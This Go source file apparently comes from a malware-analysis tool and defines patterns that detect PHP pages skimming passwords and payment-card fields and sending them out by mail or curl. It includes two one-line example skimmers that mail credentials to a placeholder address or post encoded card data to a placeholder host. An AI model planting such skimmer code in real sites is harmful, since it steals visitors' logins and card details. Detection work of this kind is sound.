// Pages of PHP that send on what their visitors type, by mail or to another host.

package content

import (
	"slices"

	"ftplab/lab/analysis/internal/pattern"
)

// aCardField is the name of a field with a number or a code of a payment card.
const aCardField = `(cc_?(num|cid|cvv)\w*|card_?(num|cvv|cvc|code)\w*|cvv2?|cvc2?)`

var (
	// secretField matches a field with a password or a payment card, and wholeForm all fields at once.
	secretField = pattern.New(`\$_(post|request)\s*(\[[^\]\n]{1,30}\]\s*)?\[\s*["']\w*?(` + aSecret + `|` + aCardField + `)["']\s*\]`)
	wholeForm   = pattern.New(`\b(print_r|json_encode|serialize|implode|http_build_query|var_export)\s*\([^;()]{0,40}\$_(post|request)\s*[,)]`)
	// secretInput matches a form that asks for a secret, cardData the parts of a payment card.
	secretInput = pattern.New(`type\s*=\s*["']?password|name\s*=\s*["']?` + aCardField + `\b`)
	cardData    = pattern.New(`["']\w*?` + aCardField + `["']`)
	// assigned matches a variable and what it gets. What of it is only checked or digested is not known afterwards.
	assigned = pattern.New(`(\$\w+)(?:\[[^\]\n]{0,40}\])?\s*\.?=([^=;][^;]{0,600});`)
	checks   = pattern.New(`\b(password_hash|password_verify|md5|sha1|hash|crypt|strlen|isset|empty|query|prepare|insert|update)\s*\(`)
	// mails matches the call of mail with the address of somebody, or with a variable, and the rest of the call.
	mails   = pattern.New(`\bmail\s*\(\s*(?:["'][^"'@\s]{1,64}@[^"'\s]{1,80}["']|(\$\w+))\s*,([^;]{0,900});`)
	address = pattern.New(`^\s*["'][^"'@\s]{1,64}@[^"'\s]{1,80}["']`)
	// posts matches what curl sends, noAnswer a call of it whose answer nobody wants, and siteURL the address of a site.
	posts    = pattern.New(`\b(?:curlopt_postfields|curlopt_url)\s*(?:,|=>)\s*([^;]{0,400})|\bcurl_init\s*\(([^;]{0,400});`)
	noAnswer = pattern.New(`[;{}]\s*@?curl_exec\s*\(`)
	siteURL  = pattern.New(`["']https?://[\w.-]+`)
	visitor  = pattern.New(`remote_addr|http_client_ip|http_user_agent`)
)

// tainted are the variables of a page with a secret that a visitor typed. Each line is read once, in the order of the page.
type tainted map[string]bool

func taintedOf(page []byte, asks bool) tainted {
	all := tainted{}
	for _, m := range assigned.FindAllSubmatch(page, -1) {
		if name, value := string(m[1]), m[2]; !checks.Match(value) && (all.in(value) || asks && wholeForm.Match(value)) {
			all[name] = true
		}
	}
	return all
}

// in reports whether an expression has a secret in it.
func (all tainted) in(expression []byte) bool {
	return secretField.Match(expression) || len(all) > 0 && slices.ContainsFunc(variable.FindAll(expression, -1), func(v []byte) bool { return all[string(v)] })
}

// robs reports whether a page sends a secret of its visitors to an address of mail that it names, or to another site
// whose answer it does not want. A page that logs in or pays somewhere wants the answer.
func robs(t *passage) bool {
	asks := secretField.Match(t.text) || secretInput.Match(t.text)
	if !asks {
		return false
	}
	secrets := taintedOf(t.text, asks)
	sends := func(expression []byte) bool { return secrets.in(expression) || wholeForm.Match(expression) }
	addresses := map[string]bool{}
	for _, m := range assigned.FindAllSubmatch(t.text, -1) {
		addresses[string(m[1])] = address.Match(m[2])
	}
	if slices.ContainsFunc(mails.FindAllSubmatch(t.text, -1), func(m [][]byte) bool {
		return (m[1] == nil || addresses[string(m[1])]) && sends(m[2])
	}) {
		return true
	}
	return noAnswer.Match(t.text) && siteURL.Match(t.text) && slices.ContainsFunc(posts.FindAllSubmatch(t.text, -1), func(m [][]byte) bool {
		return sends(m[1]) || sends(m[2])
	})
}

// robbers are such pages.
var robbers = []plant{
	{what: "a page that sends the passwords or payment cards of its visitors on, by mail or to another site", kind: LikelyMalicious, source: atSkimmers,
		example: `<?php $m="Login: ".$_POST["email"]." ".$_POST["password"]; mail("box@mail.example","new",$m); ?>`,
		parts:   []part{{[]string{"mail", "curl_exec"}, robs}}},
	{what: "a page that sends the passwords of its visitors and their addresses, or their payment cards on, by mail or to another site", kind: Malicious, source: atSkimmers,
		example: `<?php $c=curl_init("https://stats.example/c");curl_setopt($c,CURLOPT_POSTFIELDS,base64_encode($_POST["cc_number"].$_POST["cc_cvv"]));curl_exec($c); ?>`,
		parts:   []part{{[]string{"mail", "curl_exec"}, func(t *passage) bool { return (visitor.Match(t.text) || cardData.Match(t.text)) && robs(t) }}}},
}
